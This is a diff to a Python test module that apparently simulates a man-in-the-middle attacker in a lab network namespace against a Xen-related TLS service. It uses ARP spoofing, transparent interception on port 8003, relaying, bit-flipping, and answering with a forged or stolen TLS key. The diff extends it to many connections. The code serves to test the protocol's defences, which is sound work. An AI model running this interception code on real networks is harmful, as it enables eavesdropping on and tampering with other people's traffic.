@@ -1,8 +1,8 @@
 """The man in the middle on the lab's segment: ``python -m tests.xen.attacker KIND VICTIM TARGET FOLDER``, inside the attacker's namespace.
 
 He tells the victim by forged ARP that the target's address is his, and takes what the victim sends to its port 8003. KIND: ``pass`` passes on what
-he gets, ``flip`` changes one bit of it, ``own`` answers with a TLS key of his own, ``stolen`` with those of both hosts (FOLDER has them).
-What he saw comes to stdout as JSON when his one connection has ended.
+he gets over however many connections, ``flip`` changes one bit of the first of them, ``flip-all`` one of each; ``own`` answers one connection with a
+TLS key of his own, ``stolen`` with those of both hosts (FOLDER has them). What he saw comes to stdout as JSON: at SIGTERM, or when that one ends.
 """
 
 from __future__ import annotations
@@ -11,6 +11,7 @@ import contextlib
 import fcntl
 import json
 import select
+import signal
 import socket
 import struct
 import subprocess
@@ -26,7 +27,8 @@ from xensecure.proto.tls import Credentials
 
 PORT = 8003
 DEVICE = "eth0"
-FLIPPED = 32 << 20  # the byte of which `flip` changes a bit: well inside the guest's memory
+FLIPPED = 32 << 20  # the byte of the first connection of which he changes a bit: well inside the guest's memory
+FLIPPED_AGAIN = 16 << 10  # of each further one: behind the handshake's 2 KiB, inside the first frame that carries memory
 _TABLE = "100"
 _IP_TRANSPARENT = 19  # linux/in.h
 _SIOCGIFHWADDR = 0x8927  # linux/sockios.h
@@ -105,6 +107,37 @@ class Relay:
         self.passed += len(data)
 
 
+class Passing:
+    """Passes on whatever connections come, until it is told to end."""
+
+    def __init__(self, kind: str, target: str) -> None:
+        self._kind, self._target = kind, target
+        self._relays: list[Relay] = []
+
+    def run(self, listener: socket.socket) -> None:
+        """One thread for each."""
+        while True:
+            victim, _ = listener.accept()
+            flipped = {"pass": None, "flip": None if self._relays else FLIPPED, "flip-all": FLIPPED_AGAIN if self._relays else FLIPPED}[self._kind]
+            relay = Relay(flipped)
+            self._relays.append(relay)
+            threading.Thread(target=self._pass_on, args=(relay, victim), daemon=True).start()
+
+    def _pass_on(self, relay: Relay, victim: socket.socket) -> None:
+        with victim, contextlib.suppress(OSError), socket.create_connection((self._target, PORT), timeout=10) as target:
+            target.settimeout(None)
+            relay.run(victim, target)
+
+    def seen(self) -> dict[str, object]:
+        """Over all of them."""
+        return {
+            "bytes": sum(relay.passed for relay in self._relays),
+            "connections": len(self._relays),
+            "changed": sum(relay.changed for relay in self._relays),
+            "readable": any(relay.readable for relay in self._relays),
+        }
+
+
 def _own() -> Credentials:
     key = crypto.PKey()
     key.generate_key(crypto.TYPE_RSA, 2048)
@@ -147,32 +180,44 @@ def _ip(*words: str) -> None:
     subprocess.run(["ip", *words], check=True)
 
 
+def _once(kind: str, folder: Path, listener: socket.socket, target_address: str) -> dict[str, object]:
+    listener.settimeout(60)
+    victim, _ = listener.accept()
+    victim.settimeout(None)
+    with victim, socket.create_connection((target_address, PORT), timeout=10) as target:
+        target.settimeout(None)
+        return _through_tls(kind, folder, victim, target)
+
+
+def _attack(kind: str, folder: Path, target_address: str, spoofer: Spoofer) -> dict[str, object]:
+    with socket.socket() as listener:
+        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        listener.setsockopt(socket.SOL_IP, _IP_TRANSPARENT, 1)
+        listener.bind(("0.0.0.0", PORT))  # noqa: S104 - of the attacker's namespace
+        listener.listen()
+        spoofer.start()
+        print("ready", flush=True)
+        if kind in ("own", "stolen"):
+            return _once(kind, folder, listener, target_address)
+        passing = Passing(kind, target_address)
+        with contextlib.suppress(KeyboardInterrupt):
+            passing.run(listener)
+        return passing.seen()
+
+
+def _end(_number: int, _frame: object) -> None:
+    raise KeyboardInterrupt
+
+
 def main() -> None:
-    """One attack on one connection."""
+    """One attack."""
     kind, victim_address, target_address, folder = sys.argv[1:5]
+    signal.signal(signal.SIGTERM, _end)
     _ip("route", "add", "local", f"{target_address}/32", "dev", "lo", "table", _TABLE)
     _ip("rule", "add", "iif", DEVICE, "lookup", _TABLE)
     spoofer = Spoofer(victim_address, target_address)
     try:
-        with socket.socket() as listener:
-            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-            listener.setsockopt(socket.SOL_IP, _IP_TRANSPARENT, 1)
-            listener.bind(("0.0.0.0", PORT))  # noqa: S104 - of the attacker's namespace
-            listener.listen()
-            listener.settimeout(60)
-            spoofer.start()
-            print("ready", flush=True)
-            victim, _ = listener.accept()
-        victim.settimeout(None)
-        with victim, socket.create_connection((target_address, PORT), timeout=10) as target:
-            target.settimeout(None)
-            if kind in ("own", "stolen"):
-                seen = _through_tls(kind, Path(folder), victim, target)
-            else:
-                relay = Relay(FLIPPED if kind == "flip" else None)
-                relay.run(victim, target)
-                seen = {"bytes": relay.passed, "changed": relay.changed, "readable": relay.readable}
-        print(json.dumps(seen), flush=True)
+        print(json.dumps(_attack(kind, Path(folder), target_address, spoofer)), flush=True)
     finally:
         if spoofer.is_alive():
             spoofer.stop()
